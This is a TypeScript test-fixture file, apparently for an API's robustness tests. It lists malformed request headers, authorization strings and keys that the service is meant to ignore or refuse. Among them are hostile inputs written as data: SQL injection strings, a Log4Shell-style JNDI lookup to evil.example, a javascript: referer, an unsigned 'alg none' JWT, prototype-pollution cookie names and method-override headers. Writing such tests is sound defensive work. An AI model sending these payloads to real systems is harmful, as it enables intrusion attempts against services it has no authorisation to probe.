/** Headers of a request, lower-case. */
export type Headers = Readonly<Record<string, string>>;

const long = (text: string): string => text.repeat(Math.ceil(8000 / text.length)).slice(0, 8000);

/** Headers that a call may come with and that change nothing in what it does. */
export const HARMLESS_HEADERS: readonly Headers[] = [
  { accept: 'nonsense' },
  { accept: long('text/html;q=0.1,') },
  { 'accept-encoding': 'nonsense;q=x, *;q=0', 'accept-language': long('ja;q=9,') },
  { cookie: ';;=;a;=b; ;' },
  { cookie: 'tokiori_challenge=%ZZ; tokiori_sso=%E0%A4%A; __proto__=1; constructor=2' },
  { cookie: `tokiori_challenge=${'a'.repeat(8000)}` },
  { cookie: long('tokiori_sso=a; ') },
  { 'x-forwarded-for': "'; drop table users; --, ::1, 999.1.1.1" },
  { 'x-forwarded-for': long('203.0.113.9, '), forwarded: 'for="_x;by=\\"' },
  { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'gopher', 'x-forwarded-port': '-1' },
  { 'if-none-match': '*', 'if-modified-since': 'yesterday' },
  { 'if-none-match': long('W/"a", '), 'if-match': '"' },
  { range: 'bytes=5-1,-1,x-', 'if-range': '"a"' },
  { 'x-http-method-override': 'DELETE', 'x-original-url': '/api/users/1', 'x-method': 'PUT' },
  { origin: 'null', referer: 'javascript:alert(1)', host: 'evil.example:99999' },
  { 'user-agent': long('é\u00ff'), 'x-request-id': '${jndi:ldap://evil.example}' },
  { 'accept-version': '9.9.9', te: 'trailers', upgrade: 'h2c', connection: 'upgrade' },
];

/** What is no token. */
export const NO_AUTHORIZATIONS: readonly string[] = [
  '',
  'Bearer',
  'Bearer ',
  'Bearer null',
  'Basic YWRtaW46YWRtaW4=',
  'bearer\t\t',
  'Bearer a b',
  `Bearer ${'a'.repeat(43)}`,
  `Bearer ${'é'.repeat(43)}`,
  `Bearer ${'a'.repeat(8000)}`,
  `Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOjF9.`,
  `Bearer ' or 1=1 --${' '.repeat(30)}`,
];

/** What is no key; the calls that take one refuse it. */
export const NO_KEYS: readonly string[] = ['', ' ', 'a b', 'a'.repeat(201), 'é', 'キー', '\t'];
